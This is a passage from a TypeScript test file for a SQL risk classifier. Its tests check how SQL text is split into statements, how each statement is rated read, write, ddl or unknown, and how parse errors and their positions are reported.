    const sql = "SELECT 'héllo 😀'; -- ünïcode\nDELETE FROM \"tàble\" WHERE x = '€'";
    const { statements } = classifySql(sql);
    assert.equal(statements.length, 2);
    assertRangesExact(sql, statements);
    assert.equal(statements[0]!.text, "SELECT 'héllo 😀'");
    assert.equal(statements[1]!.text, 'DELETE FROM "tàble" WHERE x = \'€\'');
    assert.equal(statements[1]!.risk, 'write');
  });

  test('a -- inside a string at the end is not a comment', () => {
    const { statements } = classifySql("SELECT '--';  ");
    assert.equal(statements[0]!.text, "SELECT '--'");
  });

  test('semicolons inside dollar quotes and BEGIN ATOMIC bodies do not split', () => {
    const sql = 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END; SELECT $$a;b$$';
    const { statements } = classifySql(sql);
    assert.deepEqual(
      statements.map((s) => s.text),
      ['CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END', 'SELECT $$a;b$$'],
    );
  });

  test('a broken text is not cut inside a BEGIN ATOMIC body either', () => {
    const sql =
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; SELECT 2; END; SELEC 1';
    const { risk, statements } = classifySql(sql);
    assert.equal(risk, 'unknown');
    assert.deepEqual(
      statements.map((s) => [s.text, s.risk]),
      [
        [
          'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; SELECT 2; END',
          'ddl',
        ],
        ['SELEC 1', 'unknown'],
      ],
    );
  });

  test('an empty text or one made only of comments has no statements and is read', () => {
    for (const sql of ['', '   ', '-- nothing\n', '/* x */ ;; ']) {
      assert.deepEqual(classifySql(sql), { risk: 'read', statements: [] });
    }
  });

  test('a parse error carries the parser message and its UTF-16 position in the whole input', () => {
    const sql = "SELECT 'é'; SELEC 2; SELECT 3";
    const { risk, statements } = classifySql(sql);
    assert.equal(risk, 'unknown');
    assert.deepEqual(
      statements.map((s) => [s.text, s.risk]),
      [
        ["SELECT 'é'", 'read'],
        ['SELEC 2', 'unknown'],
        ['SELECT 3', 'read'],
      ],
    );
    const bad = statements[1]!;
    assert.deepEqual(bad.reasons, ['parse_error']);
    assert.match(bad.error!.message, /syntax error at or near "SELEC"/);
    assert.equal(bad.error!.position, sql.indexOf('SELEC 2'));
  });

  test('a text that does not even scan is one unknown statement', () => {
    const sql = "SELECT 1; SELECT 'open";
    const { risk, statements } = classifySql(sql);
    assert.equal(risk, 'unknown');
    assert.equal(statements.length, 1);
    assert.equal(statements[0]!.text, sql);
    assert.match(statements[0]!.error!.message, /unterminated quoted string/);
    assert.equal(statements[0]!.error!.position, sql.indexOf("'open"));
  });

  test('every reason code has a risk level and a meaning', () => {
    for (const [code, info] of Object.entries(reasonCatalog)) {
      assert.ok(riskLevels.includes(info.risk), code);
      assert.ok(info.meaning.length > 10, code);
    }
  });
});
